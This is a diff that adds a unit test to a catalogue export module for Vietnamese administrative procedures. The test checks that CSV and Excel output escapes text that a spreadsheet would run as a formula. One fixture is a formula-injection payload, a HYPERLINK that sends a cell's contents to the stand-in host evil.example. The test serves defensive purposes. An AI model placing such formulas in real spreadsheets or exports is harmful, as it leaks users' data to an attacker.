@@ -56,6 +56,49 @@ describe("catalogue file", () => {
     expect(await parseCatalogue(writeCsv(catalogue), "csv")).toEqual(catalogue);
   });
 
+  it("writes text that a spreadsheet would run as a formula behind an apostrophe, numbers as numbers, and reads it back unchanged", async () => {
+    const risky = ProcedureDefinition.parse(
+      aProcedureInput({
+        code: "8.000040",
+        name: '=HYPERLINK("http://evil.example/?q="&A1,"Xem mẫu")',
+        summary: "+84 912 345 678 là số đường dây nóng",
+        legalBasis: ["- Luật Hộ tịch 2014", "@Nghị định 123/2015/NĐ-CP", "'=đã có dấu nháy"],
+        fees: [{ key: "issue", label: "-50% cho hộ nghèo", amount: 8000, exemptions: "=1+1" }],
+        documents: [aDocument("paper", "Giấy tờ", { note: "@SUM(A1:A9)" })],
+      }),
+    );
+    const defs = [...catalogue, risky];
+    const formula = /^[=+\-@\t\r]/;
+
+    const csv = parseCsv(csvText(writeCsv(defs)));
+    const csvCells = csv.flatMap((r) => r.cells.slice(1));
+    expect(csvCells.filter((c) => formula.test(c))).toEqual([]);
+    expect(csvCells).toContain(`'${risky.name}`);
+    expect(csvCells).toContain("'- Luật Hộ tịch 2014\n@Nghị định 123/2015/NĐ-CP\n'=đã có dấu nháy");
+
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(Buffer.from(await writeXlsx(defs)) as unknown as ArrayBuffer);
+    const texts: string[] = [];
+    const amounts: unknown[] = [];
+    wb.eachSheet((ws) =>
+      ws.eachRow((row) =>
+        row.eachCell((cell) => {
+          if (typeof cell.value === "string") texts.push(cell.value);
+        }),
+      ),
+    );
+    wb.getWorksheet("fees")!
+      .getColumn(4)
+      .eachCell((cell, line) => void (line > 1 && amounts.push(cell.value)));
+    expect(texts.filter((c) => formula.test(c))).toEqual([]);
+    expect(texts).toContain("'-50% cho hộ nghèo");
+    expect(amounts.length).toBeGreaterThan(0);
+    expect(amounts.every((a) => typeof a === "number")).toBe(true);
+
+    expect(await parseCatalogue(await writeXlsx(defs), "xlsx")).toEqual(defs);
+    expect(await parseCatalogue(writeCsv(defs), "csv")).toEqual(defs);
+  });
+
   it("keeps codes as text in the workbook, so a trailing zero survives", async () => {
     const wb = new ExcelJS.Workbook();
     await wb.xlsx.load(Buffer.from(await writeXlsx(catalogue)) as unknown as ArrayBuffer);
